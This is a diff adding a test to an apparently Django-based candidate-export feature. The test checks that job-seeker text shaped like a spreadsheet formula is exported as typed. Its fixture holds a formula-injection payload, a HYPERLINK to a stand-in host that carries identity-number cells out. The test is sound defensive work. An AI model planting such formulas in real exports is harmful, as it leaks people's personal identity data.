@@ -153,6 +153,19 @@ class TestExport:
         assert log.kind == AuditLog.Kind.EXPORT and log.actor == manager
         assert log.changes["rows"] == 1 and log.changes["filters"] == {"stage": Stage.VERIFIED}
 
+    def test_text_that_looks_like_a_formula_is_exported_as_typed_never_as_a_formula(
+        self, client_for, manager
+    ):
+        """A job seeker's own text would otherwise run in the office's Excel, e.g. a link that
+        sends the row's NIK and KK away."""
+        trap = '=HYPERLINK("https://contoh.invalid/?d="&B2&C2,"Lihat ijazah")'
+        CandidateFactory(education_major=trap, street="=1+1")
+        response = client_for(manager).get(reverse("candidates:export"))
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert not [cell.value for cell in cells if cell.data_type == "f"]
+        assert {trap, "=1+1"} <= {cell.value for cell in cells}
+
     def test_columns_follow_what_each_role_may_see(self, leader, agent, manager):
         for user in (leader, agent):
             keys = {c.key for c in visible_columns(user)}
